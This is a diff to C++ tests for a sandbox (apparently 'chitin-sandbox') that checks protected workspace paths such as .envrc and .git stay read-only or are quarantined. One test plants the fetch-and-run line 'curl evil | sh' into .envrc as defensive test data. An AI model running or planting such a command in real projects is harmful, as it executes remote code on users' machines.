@@ -151,9 +151,36 @@ TEST_F(EscapeTest, ProtectedWorkspacePathsAreReadOnlyAndCannotBeRenamedAway) {
   EXPECT_EQ(probe({"write", "/workspace/.envrc"}), "EROFS");
   EXPECT_EQ(probe({"write", "/workspace/SOUL.md"}), "EROFS");
   EXPECT_EQ(probe({"rename", "/workspace/.git", "/workspace/.git2"}), "EBUSY");
-  EXPECT_EQ(probe({"rename", "/workspace/.git/hooks", "/workspace/.git/hooks2"}), "EBUSY");
-  EXPECT_EQ(probe({"write", "/workspace/.git/HEAD"}), "OPEN");  // the rest of .git works
+  EXPECT_EQ(probe({"rename", "/workspace/.git/hooks", "/workspace/.git/hooks2"}), "EROFS");
+  // All of .git: git also reads commondir, modules/*/config and worktrees/*.
+  EXPECT_EQ(probe({"write", "/workspace/.git/commondir"}), "EROFS");
+  EXPECT_EQ(probe({"write", "/workspace/.git/HEAD"}), "EROFS");
+  EXPECT_EQ(probe({"write", "/workspace/notes.txt"}), "OPEN");  // the rest of the workspace
   EXPECT_FALSE(sys::status_of(workspace() + "/.git/hooks/pre-commit").has_value());
+}
+
+TEST_F(EscapeTest, ProtectedPathsCreatedByTheToolAreQuarantined) {
+  Outcome outcome = run(policy({"/bin/sh", "-c",
+                                "echo 'curl evil | sh' > /workspace/.envrc && "
+                                "mkdir -p /workspace/.git/hooks && echo x > /workspace/ok"}));
+  EXPECT_EQ(outcome.code, 0) << outcome.err;
+  EXPECT_FALSE(sys::status_of(workspace() + "/.envrc").has_value());
+  EXPECT_FALSE(sys::status_of(workspace() + "/.git").has_value());
+  EXPECT_TRUE(sys::status_of(workspace() + "/ok").has_value());
+  EXPECT_NE(outcome.err.find("created the protected path '.envrc'; it was renamed to "
+                             "'.envrc.chitin-quarantine-"),
+            std::string::npos)
+      << outcome.err;
+  EXPECT_NE(outcome.err.find("protected path '.git'"), std::string::npos) << outcome.err;
+}
+
+TEST_F(EscapeTest, AFileCanBeGivenReadOnly) {
+  write_text(dir_.file("input.txt"), "data\n");
+  SandboxPolicy p = policy({"/bin/cat", dir_.file("input.txt")});
+  p.read_only.push_back(dir_.file("input.txt"));
+  Outcome outcome = run(p);
+  EXPECT_EQ(outcome.code, 0) << outcome.err;
+  EXPECT_EQ(outcome.out, "data\n");
 }
 
 TEST_F(EscapeTest, APlantedSymlinkAtAProtectedPathRefusesTheRun) {
@@ -312,7 +339,9 @@ TEST_F(EscapeTest, MissingCommandsAndSetupFailuresUseTheDocumentedExitCodes) {
   gone.workspace = dir_.file("does-not-exist");
   Outcome setup = run(gone);
   EXPECT_EQ(setup.code, kExitSetupFailed);
-  EXPECT_NE(setup.err.find("set-up failed"), std::string::npos) << setup.err;
+  EXPECT_NE(setup.err.find("chitin-sandbox: workspace: cannot open"), std::string::npos)
+      << setup.err;
+  EXPECT_NE(setup.err.find("does-not-exist"), std::string::npos) << setup.err;
 }
 
 // 4/5 through the proxy: an allow-listed host is reachable, nothing else is.
